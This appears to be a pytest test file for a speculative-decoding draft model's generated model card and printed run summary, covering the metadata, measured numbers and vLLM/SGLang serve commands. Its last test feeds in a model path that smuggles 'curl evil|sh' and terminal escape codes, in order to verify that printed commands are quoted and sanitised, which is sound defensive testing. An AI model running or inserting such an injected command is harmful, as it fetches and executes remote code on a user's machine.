"""The model card and the summary: the measured numbers, and commands that a shell and engines take."""

from __future__ import annotations

import json
import re
import shlex
import subprocess
import sys
from importlib.metadata import version

import pytest
from huggingface_hub import ModelCard
from report_inputs import Json, make_training

from draft_model.evaluation.card import print_summary


def _header(markdown: str) -> Json:
    return ModelCard(markdown).data.to_dict()  # the Hub's own code


def commands_of(markdown: str) -> list[list[str]]:
    """The words of each command as a shell reads them."""
    blocks = re.findall(r"```bash\n(.*?)```", markdown, re.DOTALL)
    shell = [
        subprocess.run(["sh", "-c", f"printf '%s\\n' {block}"], capture_output=True, text=True, check=True)
        for block in blocks
    ]
    return [done.stdout.splitlines() for done in shell]


def test_the_card_has_a_header_for_the_hub(card, training, evaluation, dataset):
    assert _header(card(training, evaluation, dataset)) == {
        "library_name": "transformers",
        "pipeline_tag": "text-generation",
        "base_model": "HuggingFaceTB/SmolLM2-135M-Instruct",
        "tags": ["eagle3", "speculative-decoding"],
    }
    training["target"]["licence"] = "apache-2.0"
    assert _header(card(training, evaluation, dataset))["license"] == "apache-2.0"


def test_the_card_says_the_measured_numbers(card, training, evaluation, dataset):
    markdown = card(training, evaluation, dataset)
    assert "| Tokens per target pass (mean acceptance length) | 1.91 | 1.03 |" in markdown
    assert "| Passes that accepted at least 2 of the proposed tokens | 26.1% | 0.1% |" in markdown
    assert "9,631 tokens were compared, with 1 ties" in markdown
    assert "vLLM 0.32.0 in float32 on Intel(R) Xeon(R)" in markdown
    assert "| 4 | 310.0 | 365.8 | 1.18 |" in markdown
    evaluation["untrained"] = None
    assert "| 1.91 | not measured |" in card(training, evaluation, dataset)
    evaluation["lossless"]["identical"] = False
    assert "**The replies differ" in card(training, evaluation, dataset)


def test_the_card_says_what_was_trained_on_and_whose_the_answers_are(card, training, evaluation, dataset):
    (row,) = re.findall(r"\| Conversations \| .*", card(training, evaluation, dataset))
    assert row.endswith(" of examples/smollm2/train.jsonl.gz |")
    training["parameters"] |= {"regenerate_answers": "train", "dataset_train_split": "https://me:secret@host/a.jsonl"}
    (row,) = re.findall(r"\| Conversations \| .*", card(training, evaluation, dataset))
    assert row.endswith(" of https://host/a.jsonl, with the target's own answers |")


def test_the_card_serves_with_both_engines(card, training, evaluation, dataset):
    vllm, sglang = commands_of(card(training, evaluation, dataset))
    assert vllm[:3] == ["vllm", "serve", "HuggingFaceTB/SmolLM2-135M-Instruct"]
    assert vllm[3:5] == ["--revision", "12fd25f"]
    assert json.loads(vllm[vllm.index("--speculative-config") + 1]) == {
        "method": "eagle3", "model": "THIS_FOLDER", "num_speculative_tokens": 3,
    }  # fmt: skip
    options = dict(zip(sglang[3::2], sglang[4::2], strict=True))
    assert options == {
        "--model-path": "HuggingFaceTB/SmolLM2-135M-Instruct", "--revision": "12fd25f",
        "--speculative-algorithm": "EAGLE3", "--speculative-draft-model-path": "THIS_FOLDER",
        "--speculative-num-steps": "3", "--speculative-eagle-topk": "1",
        "--speculative-num-draft-tokens": "4",
    }  # fmt: skip


def test_a_target_that_is_no_hub_model_is_left_to_the_reader(card, training, evaluation, dataset):
    training["parameters"] |= {"huggingface_id": "", "pytorch_model_path": "s3://models/my target"}
    training["target"]["source"] = "s3://models/my target"
    markdown = card(training, evaluation, dataset)
    assert "base_model" not in _header(markdown)
    assert "`TARGET` is the path of the target, imported from s3://models/my target." in markdown
    vllm, _ = commands_of(markdown)
    assert vllm[:4] == ["vllm", "serve", "TARGET", "--speculative-config"]


@pytest.fixture
def printed(tmp_path, capsys, monkeypatch):
    """Prints the summary of a run; returns what was printed."""

    def of(tracking="", evaluation=None, **training):
        (tmp_path / "training.json").write_text(json.dumps({**make_training(), **training}), encoding="utf-8")
        (tmp_path / "evaluation.json").write_text(json.dumps(evaluation), encoding="utf-8")
        monkeypatch.setenv("MLFLOW_TRACKING_URI", tracking)
        print_summary(tmp_path)
        return capsys.readouterr().out

    return of


def test_a_local_store_is_shown_by_a_command_that_needs_nothing_installed(printed):
    (line,) = (line for line in printed("sqlite:////runs/mlflow.db").splitlines() if "see the curves" in line)
    install, fill, show = line.removeprefix("  see the curves").strip().split(" && ")
    assert install == f"{sys.executable} -m venv .venv-mlflow"
    assert fill == f".venv-mlflow/bin/pip install mlflow=={version('mlflow-skinny')}"
    assert show == ".venv-mlflow/bin/mlflow ui --backend-store-uri sqlite:////runs/mlflow.db"
    assert "mlflow" not in printed("http://127.0.0.1:5000")


def test_the_summary_says_the_measured_numbers(printed, evaluation):
    assert "not measured: see the report" in printed()
    said = " ".join(printed(evaluation=evaluation).split())
    for expected in ("1.91 tokens per step", "54%, 26%, 11%", "first reply 1.93, later reply 1.86", "9,631 compared"):
        assert expected in said


def test_printed_commands_are_quoted_and_nothing_reaches_the_terminal_as_code(printed):
    source = "/m; curl evil|sh #[/x][red]\x1b[31m"
    given = {**make_training()["parameters"], "huggingface_id": "", "pytorch_model_path": source}
    out = printed(target={**make_training()["target"], "source": source}, parameters=given)
    assert "\x1b" not in out
    (line,) = (line for line in out.splitlines() if "serve it in vLLM" in line)
    words = shlex.split(line.partition("vLLM")[2])
    assert words[:3] == ["vllm", "serve", "/m; curl evil|sh #[/x][red]\\x1b[31m"]
